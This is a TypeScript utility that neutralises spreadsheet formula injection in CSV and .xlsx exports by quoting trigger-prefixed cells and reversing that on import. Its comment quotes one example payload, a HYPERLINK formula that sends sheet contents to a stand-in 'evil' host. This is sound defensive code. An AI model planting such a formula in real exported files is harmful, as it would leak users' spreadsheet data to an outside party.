/**
 * Spreadsheet formula injection (CSV and .xlsx): a cell that begins with
 * `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
 * Excel, LibreOffice and Google Sheets when the file is opened, so a project
 * title of `=HYPERLINK("http://evil/?"&A1)` would leak the sheet. Every text
 * cell an export writes goes through `defuseCell`, which puts a single quote
 * in front (the quote shows as text in every one of them; OWASP "CSV
 * Injection"). Plain numbers ("-12.5", "+3") are left alone: a spreadsheet
 * reads them as numbers, not formulas, and the longitudes of the west stay
 * numbers.
 *
 * `restoreCell` is the exact inverse, used by the importers, so that an export
 * re-imports to the same values: a value that already begins with quotes
 * followed by a trigger gets one more quote on the way out and loses one on
 * the way in.
 */
const TRIGGER = /^'*[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/;

export function defuseCell(value: string): string {
  return TRIGGER.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

export function restoreCell(value: string): string {
  return value.startsWith("'") && TRIGGER.test(value) && !PLAIN_NUMBER.test(value.slice(1)) ? value.slice(1) : value;
}
